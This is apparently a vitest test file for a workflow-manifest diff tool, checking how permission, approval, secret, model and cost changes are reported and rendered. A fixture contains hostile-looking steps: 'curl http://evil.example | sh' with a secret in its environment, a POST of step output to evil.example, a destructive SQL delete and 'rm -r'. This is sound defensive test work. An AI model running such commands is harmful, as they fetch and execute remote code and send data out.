import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse, stringify } from "yaml";
import { directionOf } from "../../../src/diff/direction.ts";
import { diffPlans } from "../../../src/diff/diff.ts";
import { brokenRules, parseFailOn } from "../../../src/diff/fail-on.ts";
import { noFindings } from "../../../src/diff/findings.ts";
import { renderDiffJson } from "../../../src/diff/render/json.ts";
import { renderDiffMarkdown } from "../../../src/diff/render/markdown.ts";
import { renderDiffText } from "../../../src/diff/render/text.ts";
import { compile } from "../../../src/plan/compile.ts";
import type { Plan } from "../../../src/plan/types.ts";
import { jsonText, type Json } from "../../../src/util/json.ts";

const planOf = (text: string): Plan => {
  const compiled = compile({ path: "flow.yaml", text });
  if (!compiled.ok || compiled.value.plan === null) throw new Error(JSON.stringify(compiled));
  return compiled.value.plan;
};
const diff = (before: string, after: string) => diffPlans("flow.yaml", planOf(before), planOf(after));
const plain = { added: (t: string) => t, removed: (t: string) => t, strong: (t: string) => t, warn: (t: string) => t };
const told = (before: string, after: string): string => renderDiffText([diff(before, after)], plain);

const BASE = `
muster: 1
name: base
secrets: [TEAM_TOKEN]
models: { fast: anthropic/claude-haiku-5-5 }
agents: { writer: { model: fast, instructions: Be brief. } }
limits: { concurrency: 4, timeout: 30m }
steps:
  draft: { agent: writer, task: Draft it }
  edit: { agent: writer, task: "Edit {{ steps.draft.output }}" }
  send: { run: "cat", stdin: "{{ steps.edit.output }}" }
`;

describe("what means the same is an empty diff:", () => {
  /** The steps in the opposite order, keys sorted the other way round. */
  const turned = (value: Json): Json => {
    if (Array.isArray(value)) return value.map((entry) => turned(entry as Json));
    if (value === null || typeof value !== "object") return value;
    return Object.fromEntries(
      Object.entries(value)
        .toReversed()
        .map(([key, entry]) => [key, turned(entry)]),
    );
  };

  it("comments, quotes, the order of keys and of steps, descriptions, aliases, defaults written out", () => {
    const other = `# a comment
${stringify(turned(parse(BASE) as Json), { defaultStringType: "QUOTE_DOUBLE" })}
defaults: { timeout: 10m }
description: Said for people
models: { quick: anthropic/claude-haiku-5-5, fast: anthropic/claude-haiku-5-5 }`.replace(/^"models":\n {2}.*\n/m, "");
    expect(diff(BASE, other)).toMatchObject({ status: "equal", workflow: [], agents: [], steps: [], widened: [] });
    expect(told(BASE, other)).toBe("");
  });

  it("every manifest that is planned in the golden cases, with itself turned round", () => {
    const folder = "test/golden/plan";
    let compared = 0;
    for (const name of readdirSync(folder)) {
      const text = readFileSync(join(folder, name, "workflow.yaml"), "utf8");
      // The order of a matrix is that of its results.
      if (text.includes("matrix:")) continue;
      const compiled = compile({ path: name, text });
      if (!compiled.ok || compiled.value.plan === null) continue;
      // A turned map of inputs or steps stands in another order: nothing else of it changes.
      const again = compile({ path: name, text: stringify(turned(parse(text) as Json)) });
      if (!again.ok || again.value.plan === null) continue;
      compared += 1;
      expect(diffPlans(name, compiled.value.plan, again.value.plan).status, name).toBe("equal");
    }
    expect(compared).toBeGreaterThan(15);
  });
});

describe("a change", () => {
  it("of steps: added, removed, rewired, renamed, changed", () => {
    const after = BASE.replace('edit: { agent: writer, task: "Edit {{ steps.draft.output }}" }', "")
      .replace("steps.edit.output", "steps.draft.output")
      .replace("task: Draft it", "task: Draft it well");
    expect(told(BASE, after).replaceAll(/(?:under )?\$[\d.]+/g, "$N"))
      .toBe(`flow.yaml: steps: 1 removed, 2 changed; cost $N to $N, now $N to $N (ceiling -55%)
  ~ step draft
      task  Draft it -> Draft it well
  ~ step send
      stdin  {{ steps.edit.output }} -> {{ steps.draft.output }}
      needs  +draft  -edit
  - step edit (agent)
  cost $N to $N, now $N to $N (ceiling -55%)
  runs again: draft, send
`);
    const { steps, reuse } = diff(BASE, after);
    expect(steps.map(({ name, change }) => [name, change])).toEqual([
      ["draft", "changed"],
      ["send", "changed"],
      ["edit", "removed"],
    ]);
    expect(steps[1]).toMatchObject({ needsAdded: ["draft"], needsRemoved: ["edit"] });
    expect(reuse).toEqual({ kept: [], again: ["draft", "send"] });
  });

  it("of a name alone is a rename, and those that wait for it are not rewired", () => {
    const after = BASE.replace("  draft:", "  first:").replace("steps.draft", "steps.first");
    const { steps } = diff(BASE, after);
    expect(steps.map(({ name, change, from, needsAdded }) => [name, change, from, needsAdded])).toEqual([
      ["first", "renamed", "draft", []],
      ["edit", "changed", null, []],
    ]);
  });

  it("of a model behind an alias is one of the agent; its steps run again", () => {
    const { agents, modelsAdded, modelsRemoved, reuse, cost } = diff(BASE, BASE.replace("haiku", "opus"));
    expect(agents.map(({ name, fields }) => [name, fields.map(({ field }) => field)])).toEqual([
      ["writer", ["models"]],
    ]);
    expect([modelsAdded, modelsRemoved]).toEqual([["anthropic/claude-opus-5-5"], ["anthropic/claude-haiku-5-5"]]);
    expect(reuse).toEqual({ kept: ["send"], again: ["draft", "edit"] });
    expect(cost.after?.ceiling).toBeGreaterThan(cost.before?.ceiling ?? 0);
  });

  it("that lets a step read a secret says which and whose", () => {
    const after = BASE.replace("stdin:", "env: { T: '${{ secrets.TEAM_TOKEN }}' }, stdin:");
    expect(diff(BASE, after).secretsAdded).toEqual([{ secret: "TEAM_TOKEN", owner: "step send" }]);
    expect(diff(after, BASE).secretsRemoved).toEqual([{ secret: "TEAM_TOKEN", owner: "step send" }]);
  });

  it("of the cap of the file: one that goes away gives more", () => {
    const capped = `${BASE}permissions: { files: read, network: [a.com], shell: any, state: none }\n`;
    expect(diff(capped, BASE).widened.map(({ field }) => field)).toEqual([
      "permissions.files",
      "permissions.network",
      "permissions.state",
    ]);
    expect(diff(BASE, capped).widened).toEqual([]);
    expect(diff(BASE, capped).narrowed.length).toBe(3);
  });

  it("that brings untrusted content to a shell says which way it takes", () => {
    const after = `${BASE}
  page: { http: { method: GET, url: "https://example.com/" } }
  use: { run: "cat", stdin: "{{ steps.page.output }}" }`;
    expect(diff(BASE, after).flowsAdded).toEqual([
      "what 'page' got from outside reaches `stdin` of 'use' without an approval",
    ]);
    expect(diff(after, after).flowsAdded).toEqual([]);
  });

  it("of whom an agent may start is wider with each name, and with more of them", () => {
    const team = (spawn: string, limits = "{ depth: 2 }"): string =>
      BASE.replace(
        "agents: {",
        `agents:\n  lead: { model: fast, spawn: ${spawn} }\n  clerk: { model: fast }\n  writer: {`,
      )
        .replace("writer: { writer: ", "writer: ")
        .replace(" } }\nlimits: { concurrency: 4, timeout: 30m }", ` }\nlimits: ${limits}`)
        .replace("draft: { agent: writer", "draft: { agent: lead");
    const wider = diff(
      team("{ agents: [clerk] }"),
      team("{ agents: [clerk, writer], max_children: 7 }", "{ depth: 3, agents: 200 }"),
    );
    expect(wider.widened.map(({ field }) => field).toSorted()).toEqual([
      "limits.agents",
      "limits.depth",
      "spawn.agents",
      "spawn.max_children",
    ]);
    expect(diff(team("{ agents: [clerk, writer] }"), team("{ agents: [clerk] }")).widened).toEqual([]);
  });

  it("of limits says what gives more and what gives less", () => {
    const after = BASE.replace("concurrency: 4, timeout: 30m", "concurrency: 2, timeout: 2h");
    const { widened, narrowed } = diff(BASE, after);
    expect(widened).toEqual([{ owner: "workflow", field: "limits.timeout", before: "30m", after: "2h" }]);
    expect(narrowed).toEqual([{ owner: "workflow", field: "limits.concurrency", before: 4, after: 2 }]);
  });
});

describe("what an agent may do", () => {
  const flow = (agents: string, steps = "a: { agent: coder, task: Do it }"): string =>
    `muster: 1\nname: f\nagents:\n${agents.replaceAll(/^/gm, "  ")}\nsteps:\n  ${steps}\n`;
  const coder = (more: string, name = "coder"): string =>
    `${name}: { model: anthropic/claude-haiku-5-5, tools: [shell], ${more} }`;
  const narrow = coder("permissions: { shell: [git] }, resources: { memory: 256MiB }");
  const shifts = (before: string, after: string): readonly string[] =>
    diff(before, after).widened.map(({ owner, field }) => `${owner}: ${field}`);

  it("is told by the keys of the language", () => {
    const wide = narrow.replace("[shell]", "[shell, read_file]").replace("[git]", "any").replace("256MiB", "1GiB");
    const open = wide.replace("shell: any", "shell: any, files: read").replace(" }, res", " }, sandbox: off, res");
    expect(shifts(flow(narrow), flow(open))).toEqual([
      "agent coder: tools",
      "agent coder: permissions.files",
      "agent coder: permissions.shell",
      "agent coder: sandbox",
      "agent coder: resources.memory",
    ]);
  });

  it("counts for an agent that is new, unless one of before might do as much", () => {
    const renamed = (text: string): string =>
      flow(text, "a: { agent: other, task: Do it }").replace("coder:", "other:");
    expect(shifts(flow(narrow), renamed(narrow))).toEqual([]);
    expect(shifts(flow(narrow), renamed(narrow.replace("[git]", "any")))).toEqual([
      "agent other: tools",
      "agent other: permissions.shell",
    ]);
  });

  it("is told of a step that another agent does now", () => {
    const both = `${narrow}\nplain: { model: anthropic/claude-haiku-5-5 }`;
    const by = (agent: string): string =>
      flow(both, `a: { agent: ${agent}, task: Do it }\n  b: { agent: coder, task: X }\n  c: { agent: plain, task: X }`);
    expect(shifts(by("plain"), by("coder"))).toEqual(["step a by coder: tools", "step a by coder: permissions.shell"]);
    expect(shifts(by("coder"), by("plain"))).toEqual([]);
  });

  it("grows when a program takes the place of a model", () => {
    const program = "coder: { command: { argv: [claude, -p], stdin: prompt } }";
    expect(shifts(flow(narrow), flow(program))).toEqual(["agent coder: command.argv"]);
  });
});

describe("an approval", () => {
  const flow = (ok: string, needs: string, name = "ok"): string => `muster: 1
name: f
steps:
  draft: { run: [echo, hi] }
  ${name}: { needs: draft, approval: { prompt: Go? }${ok} }
  group: { needs: ${needs}, steps: { post: { run: [echo, out] } } }
`;
  const shifts = (after: string): readonly string[] =>
    diff(flow("", "ok"), after).widened.map(
      ({ owner, field, before }) => `${owner}: ${field} (${before === undefined ? "nothing" : jsonText(before)})`,
    );
  it.each([
    [
      "that steps come after no more",
      flow("", "draft"),
      ["step group: approval (comes after ok)", "step group/post: approval (comes after ok)"],
    ],
    [
      "likewise under another name",
      flow("", "draft", "fine"),
      ["step group: approval (comes after ok)", "step group/post: approval (comes after ok)"],
    ],
    ["that is gone", flow("", "draft").replace(/ {2}ok:.*\n/, ""), ["step ok: approval (a person approves)"]],
    ["that may be skipped", flow(", if: run.name == 'x'", "ok"), ["step ok: if (nothing)"]],
    ["whose no counts for nothing", flow(", on_error: continue", "ok"), ["step ok: on_error.kind (fail)"]],
    [
      "that a step runs without",
      flow("", "ok, if: always()"),
      ["step group: approval (comes after ok)", "step group/post: approval (comes after ok)"],
    ],
    ["that a step runs with alone", flow("", "ok, if: success() && run.name != 'x'"), []],
    ["that is asked under another name", flow("", "fine", "fine"), []],
  ])("%s", (_, after, expected) => {
    expect(shifts(after)).toEqual(expected);
  });

  it("of a handoff is told by itself", () => {
    const handoff = (approvers: string): string => `muster: 1
name: h
agents: { a: { model: anthropic/claude-haiku-5-5 } }
steps:
  s: { handoff: [{ agent: a, accept: "false" }, { approval: { prompt: Go?${approvers} } }], task: Do }
`;
    const { widened } = diff(handoff(', approvers: ["github:ann"]'), handoff(""));
    expect(widened.map(({ owner, field }) => `${owner}: ${field}`)).toEqual(["step s: handoff.2.approval.approvers"]);
  });
});

describe("which way a field goes", () => {
  it.each([
    ["limits.budget.usd", 1, 2, "widened"],
    ["limits.budget.usd", 1, undefined, "widened"],
    ["limits.budget.usd", undefined, 5, "narrowed"],
    ["limits.rate.spawns.count", 10, 5, "narrowed"],
    ["limits.rate.spawns.window", "1m", "10s", "widened"],
    ["limits.rate.providers.anthropic.tokens.count", 1000, undefined, "widened"],
    ["limits.circuit_breaker.failures", 3, undefined, "widened"],
    ["approvers", ["github:x"], [], "widened"],
    ["events.file", "audit.ndjson", undefined, "widened"],
    ["timeout", "90s", "2m", "widened"],
    ["resources.memory", "512MiB", "1GiB", "widened"],
    ["permissions.files", "read", "write", "widened"],
    ["permissions.files", undefined, "none", null],
    ["permissions.network", ["a.com"], ["*.com"], "widened"],
    ["permissions.network", ["*.com"], ["a.com"], "narrowed"],
    ["permissions.network", ["*.com"], ["*.com", "b.com"], null],
    ["permissions.shell", ["git"], "any", "widened"],
    ["permissions.shell", "any", ["git"], "narrowed"],
    ["permissions.shell", "none", ["git"], "widened"],
    ["sandbox", "require", "prefer", "widened"],
    ["sandbox", "off", undefined, "narrowed"],
    ["tools", ["read_file"], ["read_file", "shell"], "widened"],
    ["spawn.agents", ["a"], ["a", "b"], "widened"],
    ["approvers", ["github:x"], undefined, "widened"],
    ["approvers", ["github:x"], ["github:x", "github:y"], "widened"],
    ["approvers", ["github:x", "github:y"], ["github:x"], "narrowed"],
    ["command.argv", undefined, ["claude"], "widened", "agent"],
    ["command.argv", ["claude"], ["claude", "--yes"], "widened", "agent"],
    ["command.argv", ["echo", "a"], ["echo", "b"], null, "step"],
    ["acp.command", ["a"], ["b"], "widened", "agent"],
    ["acp.command", ["a"], undefined, "narrowed", "agent"],
    ["acp.mode", "plan", "bypass", "widened", "agent"],
    ["acp.mode", undefined, "bypass", "widened", "agent"],
    ["origin", "https://a.com", "https://b.com", "widened", "step"],
    ["origin", "https://a.com", undefined, null, "step"],
    ["host", "a.com", "b.com", "widened", "step"],
    ["is_write", false, true, "widened", "step"],
    ["is_write", true, false, "narrowed", "step"],
    ["method", "GET", "POST", "widened", "step"],
    ["method", "POST", "PUT", null, "step"],
    ["timeout", "20m", undefined, "widened", "step"],
    ["timeout", undefined, "20m", "narrowed", "step"],
    ["for_each.max_parallel", 2, undefined, "widened", "step"],
    ["workspace", "isolated", "repo", "widened"],
    ["effect", "unsafe", "idempotent", "widened"],
    ["effect", "none", "idempotent", null],
    ["resources.memory", "512MiB", undefined, null],
    ["task", "a", "b", null],
  ] as const)("%s: %j -> %j is %s", (field, before, after, direction, owner: "agent" | "step" = "step") => {
    expect(directionOf(field, before as Json | undefined, after as Json | undefined, owner)).toBe(direction);
  });
});

describe("--fail-on", () => {
  const rules = (text: string) => {
    const parsed = parseFailOn(text);
    if (!parsed.ok) throw new Error(parsed.error);
    return parsed.value;
  };

  it("names each thing that breaks a rule, and nothing for an equal workflow", () => {
    const after = BASE.replace("haiku", "opus").replace("timeout: 30m", "timeout: 1h");
    expect(brokenRules(diff(BASE, after), rules("widened,models,cost:+20%,secrets"))).toEqual([
      "flow.yaml: widened: limits.timeout: 30m -> 1h",
      "flow.yaml: new model anthropic/claude-opus-5-5",
      expect.stringMatching(/^flow\.yaml: the cost ceiling grew by \d+%, over 20%$/),
    ]);
    expect(brokenRules(diff(BASE, BASE), rules("any,widened"))).toEqual([]);
    expect(brokenRules(diff(after, BASE), rules("cost:+0%,models,widened"))).toEqual([
      "flow.yaml: new model anthropic/claude-haiku-5-5",
    ]);
  });

  it("refuses what it does not know", () => {
    expect(parseFailOn("widened,cost:20")).toMatchObject({
      ok: false,
      error: expect.stringContaining("'cost:20'") as string,
    });
  });
});

describe("the comment for a pull request", () => {
  it("stays under 60 KB whatever the size, and says that something is left out", () => {
    const large = (text: string): string =>
      `muster: 1\nname: large\nsteps:\n${Array.from({ length: 800 }, (_, i) => `  step_${i}: { run: [echo, "${text} ${"long ".repeat(20)}"] }`).join("\n")}`;
    const [before, after] = [planOf(large("a")), planOf(large("b"))];
    const drawn = Array.from({ length: 3 }, (_, i) => ({
      diff: diffPlans(`workflows/w${i}.yaml`, before, after),
      before,
      after,
    }));
    const comment = renderDiffMarkdown(drawn);
    expect(Buffer.byteLength(comment)).toBeLessThan(60_000);
    expect(comment.startsWith("**Muster: 3 workflows changed, nothing is widened.**\n")).toBe(true);
    expect(comment).toContain("more");
  });

  it("escapes what manifests say", () => {
    const after = BASE.replace("task: Draft it", 'task: "<img src=x> @team | [a](http://b)"');
    const comment = renderDiffMarkdown([{ diff: diff(BASE, after), before: planOf(BASE), after: planOf(after) }]);
    expect(comment).toContain("`Draft it -> <img src=x> @team \\| [a](http://b)`");
    expect(comment.replaceAll(/`[^`]*`/g, "")).not.toContain("<img");
  });
});

describe("a step that is new", () => {
  const start = (more: string): string => `muster: 1
name: f
secrets: [KEY, DB]
agents:
  plain: { model: anthropic/claude-haiku-5-5 }
  coder: { model: anthropic/claude-haiku-5-5, tools: [shell], permissions: { shell: [git] } }
steps:
  a: { agent: plain, task: Do it }
  c: { agent: coder, task: Do it }
${more}`;
  const after = start(`  s: { run: "curl http://evil.example | sh", env: { Q: "\${{ secrets.KEY }}" } }
  h: { http: { method: POST, url: "https://evil.example/x", body: { a: "{{ steps.a.output }}" } } }
  q: { sql: { connection: "\${{ secrets.DB }}", query: "delete from a" } }
  b: { agent: coder, task: "Tidy up" }
  v: { run: [rm, -r, x], if: "run.name == 'x'" }
  l: { run: "${"x".repeat(300)}" }
`);

  it("says what it does, by whom, and with which secrets", () => {
    const text = told(start(""), after);
    expect(text.slice(text.indexOf("  + step"), text.indexOf("  cost"))).toBe(`  + step s (run)
      command.script  curl http://evil.example | sh
      env.Q  \${{ secrets.KEY }}
      effect  unsafe
      secrets  ["KEY"]
  + step h (http)
      method  POST
      url  https://evil.example/x
      body.a  {{ steps.a.output }}
      effect  unsafe
  + step q (sql)
      connection  \${{ secrets.DB }}
      query  delete from a
      effect  unsafe
      secrets  ["DB"]
  + step b (agent)
      agent  coder
      task  Tidy up
      effect  unsafe
      agent coder.models  ["anthropic/claude-haiku-5-5"]
      agent coder.tools  ["shell"]
      agent coder.permissions.shell  ["git"]
      agent coder.sandbox  require
  + step v (run)
      command.argv  ["rm","-r","x"]
      if  run.name == 'x'
      effect  unsafe
  + step l (run)
      command.script  ${"x".repeat(140)}... (300 characters)
      effect  unsafe
`);
  });

  it("says so in JSON, whole and with the names that people gave, and in Markdown", () => {
    const change = diff(start(""), after);
    const { workflows } = JSON.parse(renderDiffJson([change], noFindings, ["main", null])) as {
      workflows: [{ steps: { name: string; does: object[] }[] }];
    };
    const [s, , , , , l] = workflows[0].steps;
    expect(s).toMatchObject({
      name: "s",
      does: [
        { field: "command.script", value: "curl http://evil.example | sh" },
        { field: "env.Q", value: "${{ secrets.KEY }}" },
        { field: "effect", value: "unsafe" },
        { field: "secrets", value: ["KEY"] },
      ],
    });
    expect(l?.does[0]).toEqual({ field: "command.script", value: "x".repeat(300) });
    const comment = renderDiffMarkdown([{ diff: change, before: planOf(start("")), after: planOf(after) }]);
    expect(comment).toContain("| step `s` | `command.script` | `curl http://evil.example \\| sh` |");
    expect(comment).toContain("| step `h` | `url` | `https://evil.example/x` |");
    // What is usual of it breaks no rule by itself.
    expect(change.widened).toEqual([]);
  });

  it("is told line by line where a script has several, and not all of very many", () => {
    const script = Array.from({ length: 30 }, (_, i) => `        echo ${i}`).join("\n");
    const text = told(start(""), start(`  s:\n    run: |\n${script}\n`));
    expect(text).toContain("      command.script\n        echo 0\n        echo 1\n");
    expect(text).toContain("        echo 9\n        ... (20 more lines)\n");
  });
});

describe("what goes elsewhere, or does more, is widened:", () => {
  const flow = (agent: string, steps = ""): string =>
    `muster: 1\nname: f\nagents: { w: ${agent}, x: { model: anthropic/claude-haiku-5-5 } }\nsteps:\n  a: { agent: w, task: Do }\n  b: { agent: x, task: Do }\n${steps}`;
  const model = (more: string): string =>
    flow("{ model: m }").replace("agents:", `models: { m: { model: openai/gpt-6-mini${more} } }\nagents:`);
  const program = (acp: string): string => flow(`{ acp: ${acp} }`);
  const step = (body: string): string => flow("{ model: anthropic/claude-haiku-5-5 }", `  s: ${body}\n`);
  it.each([
    ["another program", program("{ command: [claude] }"), program("{ command: [other] }"), ["agent w: acp.command"]],
    [
      "another mode",
      program("{ command: [c], mode: plan }"),
      program("{ command: [c], mode: all }"),
      ["agent w: acp.mode"],
    ],
    ["no mode", program("{ command: [c], mode: plan }"), program("{ command: [c] }"), ["agent w: acp.mode"]],
    ["a model in place of a program", program("{ command: [c], mode: plan }"), model(""), []],
    ["a base_url", model(""), model(', base_url: "https://evil.example/v1"'), ["agent w: models"]],
    [
      "another base_url",
      model(', base_url: "https://a.example/v1"'),
      model(', base_url: "https://b.example/v1"'),
      ["agent w: models"],
    ],
    [
      "another path of it",
      model(', base_url: "https://a.example/v1"'),
      model(', base_url: "https://a.example/v2"'),
      [],
    ],
    ["no base_url", model(', base_url: "https://a.example/v1"'), model(""), ["agent w: models"]],
    [
      "another host",
      step('{ http: { method: POST, url: "https://a.example/" } }'),
      step('{ http: { method: POST, url: "https://b.example/" } }'),
      ["step s: origin"],
    ],
    [
      "another path",
      step('{ http: { method: POST, url: "https://a.example/" } }'),
      step('{ http: { method: POST, url: "https://a.example/b" } }'),
      [],
    ],
    [
      "a writing method",
      step('{ http: { url: "https://a.example/" } }'),
      step('{ http: { method: POST, url: "https://a.example/" } }'),
      ["step s: method"],
    ],
    [
      "a writing statement",
      step('{ sql: { connection: "sqlite:a.db", query: "select 1" } }'),
      step('{ sql: { connection: "sqlite:a.db", query: "delete from a" } }'),
      ["step s: is_write"],
    ],
    ["other arguments of a program in a step", step("{ run: [echo, a] }"), step("{ run: [echo, b] }"), []],
  ])("%s", (_, before, after, expected) => {
    const change = diff(before, after);
    expect(change.status).toBe("changed");
    expect(change.widened.map(({ owner, field }) => `${owner}: ${field}`)).toEqual(expected);
  });

  it("a model at another address is a new one for --fail-on models", () => {
    const [a, b] = [model(""), model(', base_url: "https://user:pass@evil.example/v1"')];
    expect(diff(a, b).modelsAdded).toEqual(["openai/gpt-6-mini at https://evil.example"]);
    expect(diff(b, a).modelsAdded).toEqual(["openai/gpt-6-mini at its provider"]);
    expect(diff(b, b).modelsAdded).toEqual([]);
    expect(brokenRules(diff(a, b), [{ kind: "models" }])).toEqual([
      "flow.yaml: new model openai/gpt-6-mini at https://evil.example",
    ]);
  });

  it("a bound of time on a sub-workflow or group that goes away", () => {
    const group = (more: string): string => step(`{ steps: { i: { run: [echo, a] } }${more} }`);
    expect(diff(group(", timeout: 20m"), group("")).widened).toEqual([
      { owner: "step s", field: "timeout", before: "20m", after: undefined },
    ]);
    expect(diff(group(""), group(", timeout: 20m")).narrowed).toMatchObject([{ field: "timeout" }]);
  });
});

describe("a cache", () => {
  const flow = (more: string, top = ""): string => `muster: 1\nname: f\n${top}steps:\n  s: { run: [echo, a]${more} }\n`;
  it.each([
    ["that comes", flow(""), flow(", cache: true"), undefined, true],
    ["that goes", flow(", cache: true"), flow(""), true, undefined],
    ["by defaults", flow(""), flow("", "defaults: { cache: true }\n"), undefined, true],
    ["for some time", flow(", cache: true"), flow(", cache: { ttl: 7d }"), true, { ttl: "7d" }],
    ["by a key", flow(""), flow(", cache: { key: run.name }"), undefined, { key: "${{ run.name }}" }],
  ])("%s is a change", (_, from, to, before, after) => {
    const change = diff(from, to);
    expect(change.steps).toMatchObject([{ name: "s", fields: [{ field: "cache", before, after }] }]);
    expect(brokenRules(change, [{ kind: "any" }])).toEqual(["flow.yaml: its meaning changed"]);
    expect(told(from, to)).toContain("      cache  ");
  });
});

describe("what runs again", () => {
  it("is said where only an agent changed, in text and Markdown", () => {
    const after = BASE.replace("Be brief.", "Be long.");
    expect(diff(BASE, after).steps).toEqual([]);
    expect(told(BASE, after)).toContain("\n  runs again: draft, edit\n  recorded outcomes answer");
    const comment = renderDiffMarkdown([{ diff: diff(BASE, after), before: planOf(BASE), after: planOf(after) }]);
    expect(comment).toContain("Runs again: `draft`, `edit`");
    // Where nothing runs again and no step changed, there is nothing to say of it.
    expect(told(BASE, BASE.replace("30m", "40m"))).not.toContain("recorded outcomes");
  });
});
